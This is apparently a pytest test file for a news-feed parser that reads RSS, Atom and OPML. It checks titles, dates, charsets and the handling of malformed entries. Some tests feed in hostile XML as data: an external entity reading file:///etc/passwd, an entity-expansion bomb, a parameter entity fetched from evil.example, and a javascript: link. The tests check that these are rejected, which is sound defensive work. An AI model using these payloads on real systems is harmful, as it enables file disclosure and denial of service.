from __future__ import annotations

from collections.abc import Sequence
from datetime import UTC, datetime

import pytest

from overstory.errors import FeedError
from overstory.ingest import Item
from overstory.ingest.feeds import read_feed
from overstory.ingest.opml import read_opml
from overstory.settings import Settings

ITEM = "<item><title>{0}</title><link>https://a.example/{0}</link>{1}</item>"


def rss(*items: str, head: str = "", declaration: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{declaration}'
        '<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>Feed</title>'
        f"<link>https://a.example/</link>{head}{''.join(items)}</channel></rss>"
    ).encode()


def read(data: bytes, **options: str) -> Sequence[Item]:
    return list(read_feed(data, "feed.xml", **options))  # type: ignore[arg-type]


def one(item: str, **options: str) -> Item:
    (item_read,) = read(rss(item), **options)
    return item_read


def test_an_rss_item() -> None:
    item = one(
        "<item><title>Ferry &amp;amp; crew &lt;b&gt;safe&lt;/b&gt;</title>"
        "<link>https://a.example/1</link><guid isPermaLink='false'>id-1</guid>"
        "<pubDate>Tue, 03 Nov 2026 10:00:00 +0100</pubDate><dc:creator>Jane Doe</dc:creator>"
        "<description>Short.</description><content:encoded><![CDATA[<p>The ferry ran aground "
        "off the port.</p><script>alert(1)</script><p>Nobody was hurt, the coast guard said.</p>]]>"
        "</content:encoded></item>"
    )
    article = item.article
    assert item.where == "feed.xml, entry 1"
    assert article is not None
    assert article.title == "Ferry & crew safe"
    assert article.url == "https://a.example/1"
    assert article.id == "id-1"
    assert article.published_at == datetime(2026, 11, 3, 9, tzinfo=UTC)
    assert article.author == "Jane Doe"
    assert article.language == "en"
    assert article.body == (
        "The ferry ran aground off the port.\n\nNobody was hurt, the coast guard said."
    )


def test_an_atom_entry() -> None:
    data = (
        '<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="en-us"><title>Luka</title>'
        '<entry><title type="html">Trajekt &lt;i&gt;nasedel&lt;/i&gt;</title>'
        '<link rel="alternate" href="/a"/><id>urn:1</id><updated>2026-11-03T10:00:00Z</updated>'
        "<summary>Trajekt je v ponedeljek ponoči nasedel pred pristaniščem.</summary>"
        "</entry></feed>"
    ).encode()
    (item,) = read(data, url="https://luka.example/feed")
    article = item.article
    assert article is not None
    assert article.title == "Trajekt nasedel"
    assert article.url == "https://luka.example/a"
    assert article.published_at == datetime(2026, 11, 3, 10, tzinfo=UTC)
    # The feed calls itself American English, as its software does by default.
    assert article.language == "sl"


def test_an_aggregator_names_the_outlet() -> None:
    article = one(
        ITEM.format("x", "<source url='https://www.harbour.example/feed'>Harbour Post</source>")
    ).article
    assert article is not None
    assert (article.source, article.source_name) == ("harbour.example", "Harbour Post")


def test_a_guid_that_is_a_url_stands_in_for_the_link() -> None:
    article = one("<item><title>x</title><guid>https://a.example/5</guid></item>").article
    assert article is not None
    assert article.url == "https://a.example/5"


@pytest.mark.parametrize(
    ("bad", "reason"),
    [
        ("<item><title>x</title></item>", "url: is missing"),
        ("<item><link>https://a.example/x</link></item>", "title: is missing"),
        (
            "<item><title> </title><link>https://a.example/x</link></item>",
            "title: is missing",
        ),
        ("<item><title>x</title><link>javascript:alert(1)</link></item>", "url: is not an http"),
        (ITEM.format("x", "<pubDate>Tue, 31 Feb 2026 10:00:00 GMT</pubDate>"), "published_at"),
        (ITEM.format("x", "<pubDate>Mon, 01 Jan 2091 10:00:00 GMT</pubDate>"), "in the future"),
        (ITEM.format("x", "<description>" + "y" * 1_000_001 + "</description>"), "body: has"),
        (ITEM.format("x" * 2001, ""), "title: is longer"),
    ],
)
def test_a_bad_entry_is_reported_and_its_neighbours_go_in(bad: str, reason: str) -> None:
    before, item, after = read(rss(ITEM.format("1", ""), bad, ITEM.format("3", "")))
    assert before.article is not None
    assert after.article is not None
    assert item.where == "feed.xml, entry 2"
    assert reason in str(item.error)


@pytest.mark.parametrize(
    "date",
    ["<pubDate>no date</pubDate><dc:date>2026-11-03</dc:date>", "<dc:date>2026-11-03</dc:date>"],
)
def test_a_second_date_stands_in_for_one_that_cannot_be_read(date: str) -> None:
    article = one(ITEM.format("x", date)).article
    assert article is not None
    assert article.published_at == datetime(2026, 11, 3, tzinfo=UTC)


def test_broken_xml_is_read_as_far_as_it_goes() -> None:
    data = (
        b'<rss version="2.0"><channel><title>a & b</title><item><title>R & D</title>'
        b"<link>https://a.example/?x=1&y=2</link></item>"
    )
    (item,) = read(data)
    assert item.article is not None
    assert item.article.title == "R & D"


def test_charsets() -> None:
    data = rss(ITEM.format("caf\xe9", "")).decode().replace("UTF-8", "iso-8859-1")
    (item,) = read(data.encode("latin-1"))
    assert item.article is not None
    assert item.article.title == "café"
    undeclared = data.replace(' encoding="iso-8859-1"', "").encode("latin-1")
    (item,) = read(undeclared, charset="iso-8859-1")
    assert item.article is not None
    assert item.article.title == "café"


def test_an_empty_feed_is_a_feed() -> None:
    assert read(rss()) == []


def test_a_harmless_document_type_is_let_pass() -> None:
    declaration = (
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
        '"http://my.netscape.com/publish/formats/rss-0.91.dtd">'
    )
    (item,) = read(rss(ITEM.format("x", ""), declaration=declaration))
    assert item.article is not None


EXTERNAL = '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
BOMB = (
    '<!DOCTYPE r [<!ENTITY a0 "lol">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    + "]>"
)
PARAMETER = '<!DOCTYPE r [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]>'


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (rss("<item><title>&x;</title></item>", declaration=EXTERNAL), "an external entity ('x')"),
        (rss("<item><title>&a9;</title></item>", declaration=BOMB), "an entity ('a0')"),
        (rss(declaration=PARAMETER), "entity ('p')"),
        (
            rss("<item><title>&x;</title></item>", declaration=EXTERNAL)
            .decode()
            .replace("UTF-8", "UTF-16")
            .encode("utf-16"),
            "an external entity",
        ),
        (b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss>&x; & <', "external entity"),
        (b"<rss & <!DOCTYPE r [<!ENTITY x 'y'>]>", "not well-formed XML and has a document type"),
        (b"<!doctype html><html><body><p>Not found</p></body></html>", "is an HTML page"),
        (b"\n<HTML><head><title>x</title></head></HTML>", "is an HTML page"),
        (b"<html><!-- no feed here --><body>feed</body></html>", "is an HTML page"),
        (b"", "is not an RSS or Atom feed"),
        (b"just text", "is not an RSS or Atom feed"),
        (b"<sitemap/>", "is not an RSS or Atom feed"),
        (b"\x00\x01\x02\xff", "is not an RSS or Atom feed"),
    ],
)
def test_what_is_no_feed_says_why(data: bytes, reason: str) -> None:
    with pytest.raises(FeedError) as caught:
        read(data)
    assert reason in str(caught.value)


def test_a_string_is_never_opened_as_a_file_or_url() -> None:
    for name in (b"/etc/passwd", b"http://127.0.0.1/feed", b"file:///etc/passwd"):
        with pytest.raises(FeedError, match="is not an RSS or Atom feed"):
            read(name)


def test_the_body_limit_comes_from_the_settings() -> None:
    data = rss(ITEM.format("x", "<description>12345</description>"))
    (item,) = read_feed(data, "f", Settings(max_body_bytes=4))
    assert "at most 4" in str(item.error)


def test_opml_names_its_feeds_once_in_order() -> None:
    data = (
        b'<opml version="2.0"><body><outline text="World"><outline type="rss" '
        b'xmlUrl="https://b.example/f"/><outline xmlurl=" https://a.example/f "/></outline>'
        b'<outline xmlUrl="https://b.example/f"/><outline text="none" xmlUrl=""/></body></opml>'
    )
    assert read_opml(data) == ["https://b.example/f", "https://a.example/f"]


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b'<opml version="2.0"><body/></opml>', "names no feeds"),
        (b"<opml", "not well-formed"),
        (rss(), "is not an OPML list"),
        (b"<html><body/></html>", "is an HTML page"),
        (b'<!DOCTYPE o [<!ENTITY x SYSTEM "file:///x">]><opml/>', "an external entity"),
    ],
)
def test_what_is_no_list_says_why(data: bytes, reason: str) -> None:
    with pytest.raises(FeedError, match=reason):
        read_opml(data)


@pytest.mark.parametrize(
    "link", ["http://[x", "//[", "http://℀.example/", "http://a.example:99999/"]
)
def test_a_link_that_is_no_url_leaves_the_other_entries(link: str) -> None:
    data = rss(f"<item><title>t</title><link>{link}</link></item>", ITEM.format("Two", ""))
    first, second = read(data, url="https://a.example/feed")
    assert str(first.error).startswith("url: ")
    assert second.article is not None


def test_a_feed_whose_own_link_is_no_url() -> None:
    data = rss(ITEM.format("One", "")).replace(
        b"<link>https://a.example/</link>", b"<link>http://[x</link>"
    )
    (item,) = read(data)
    assert item.article is not None
    assert item.article.url == "https://a.example/One"


@pytest.mark.parametrize(
    "reference",
    [
        "&#xD800;",
        "&#x110000;",
        "&#0;",
        "&#x0;",
        "&#55296;",
        "&#99999999999;",
        "&#x" + "f" * 5000,
        "&#" + "9" * 5000,
    ],
)
@pytest.mark.parametrize("damage", ["", "<"])
def test_a_character_that_does_not_exist_leaves_the_feed(reference: str, damage: str) -> None:
    bad = ITEM.format("One", f"<description>a{reference} b</description>")
    first, second = read(rss(bad, ITEM.format("Two", "")) + damage.encode())
    assert first.article is not None
    assert "�" in first.article.body
    assert second.article is not None


def test_characters_that_exist_stay() -> None:
    article = one(ITEM.format("One", "<description>&#233;&#x1F6A2;&#x00e9 x</description>")).article
    assert article is not None
    assert article.body.startswith("é🚢")


@pytest.mark.parametrize("encoding", [b"UTF-\x89", b"UT\x00F-8"])
def test_a_feed_that_its_parser_gives_up_is_told(encoding: bytes) -> None:
    with pytest.raises(FeedError):
        read(rss(ITEM.format("One", "")).replace(b"UTF-8", encoding) + b"<")
